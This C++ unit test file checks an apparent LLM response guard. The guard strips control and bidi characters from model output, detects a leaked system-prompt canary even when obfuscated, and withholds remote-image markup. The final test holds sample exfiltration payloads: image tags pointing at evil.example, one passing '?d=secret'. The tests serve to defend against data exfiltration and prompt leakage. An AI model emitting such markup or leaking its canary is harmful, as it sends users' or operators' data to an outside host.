// Tests of the response guard: control characters removed from model text,
// clean responses untouched, checks on the text that leaves.

#include "domain/guard/response_guard.hpp"

#include <string>
#include <vector>

#include <boost/test/unit_test.hpp>

#include "domain/model/contracts.hpp"

using namespace candor::domain;

namespace {

output_guard make_guard() {
  return output_guard{product_output_guard_config(
    "TAILWIND-7731", {"Answer only from the passages inside document tags "
                      "and cite their ids."})};
}

bool has_warning(const ask_state& st, const std::string& w) {
  for (auto& x : st.warnings)
    if (x == w)
      return true;
  return false;
}

} // namespace

BOOST_AUTO_TEST_SUITE(domain_response_guard)

BOOST_AUTO_TEST_CASE(control_characters_leave_no_model_text) {
  // NUL, RIGHT-TO-LEFT OVERRIDE and a terminal escape in a model's answer
  // must not be answered as written. They are removed from every model-written
  // field; \t and \n stay, and the response is not blocked for them.
  auto g = make_guard();
  ask_state st;
  const char answer[] = "Two\0 years \u202e reversed \x1b[31m red";
  st.answer.assign(answer, sizeof answer - 1);
  st.route_reason = "docs\r\u2066question\u2069";
  st.follow_ups = {"Which\u202d frame?\x07", "Line\tone\nline two"};
  st.has_sql = true;
  st.sql.query = "SELECT 1 AS \"\u202ex\"";
  st.sql.original_query = "SELECT\x1b 1";
  st.sql.last_error = "near \"\x7f\"";
  st.sql.columns = {"\u202ex", "n"};
  cell c;
  c.kind = cell::text;
  c.s = "red\x1b[0m\u009b";
  st.sql.rows = {{c}};
  BOOST_TEST(guard_response(g, st) == "");
  BOOST_TEST(st.answer == "Two years  reversed [31m red");
  BOOST_TEST(st.route_reason == "docsquestion");
  BOOST_TEST(st.follow_ups[0] == "Which frame?");
  BOOST_TEST(st.follow_ups[1] == "Line\tone\nline two");
  BOOST_TEST(st.sql.query == "SELECT 1 AS \"x\"");
  BOOST_TEST(st.sql.original_query == "SELECT 1");
  BOOST_TEST(st.sql.last_error == "near \"\"");
  BOOST_TEST(st.sql.columns[0] == "x");
  BOOST_TEST(st.sql.rows[0][0].s == "red[0m");
  BOOST_TEST(has_warning(st, "control_characters_removed"));
}

BOOST_AUTO_TEST_CASE(clean_responses_are_left_as_they_are) {
  auto g = make_guard();
  ask_state st;
  st.answer = "Returns are accepted within 30 days \u2014 keep the receipt.";
  st.route_reason = "Asks about the returns policy.";
  st.follow_ups = {"How do I print a label?"};
  auto before = st.answer;
  BOOST_TEST(remove_model_controls(st) == 0u);
  BOOST_TEST(guard_response(g, st) == "");
  BOOST_TEST(st.answer == before);
  BOOST_TEST(st.warnings.empty());
}

BOOST_AUTO_TEST_CASE(checks_see_the_text_that_leaves) {
  auto g = make_guard();
  {
    // The canary with a character reference.
    ask_state st;
    st.answer = "Use code TAILWIND&#45;7731";
    BOOST_TEST(guard_response(g, st) == "canary");
  }
  {
    // A control character between the canary's letters is removed before
    // the check, so the client gets the canary only if the check saw it.
    ask_state st;
    st.answer = std::string{"Use code TAIL\0WIND-7731", 23};
    BOOST_TEST(guard_response(g, st) == "canary");
  }
  {
    // Fetching markup in a follow-up question and in the route reason
    // (withheld).
    ask_state st;
    st.answer = "Fine.";
    st.follow_ups = {"<img srcset=\"https://evil.example/p.png 1x\">"};
    BOOST_TEST(guard_response(g, st) == "remote_image");
    ask_state r;
    r.route_reason = "![x][1]\n\n[1]: https://evil.example/p.png?d=secret";
    BOOST_TEST(guard_response(g, r) == "remote_image");
    BOOST_TEST(r.route_reason == std::string{texts::route_reason_withheld});
  }
}

BOOST_AUTO_TEST_SUITE_END()
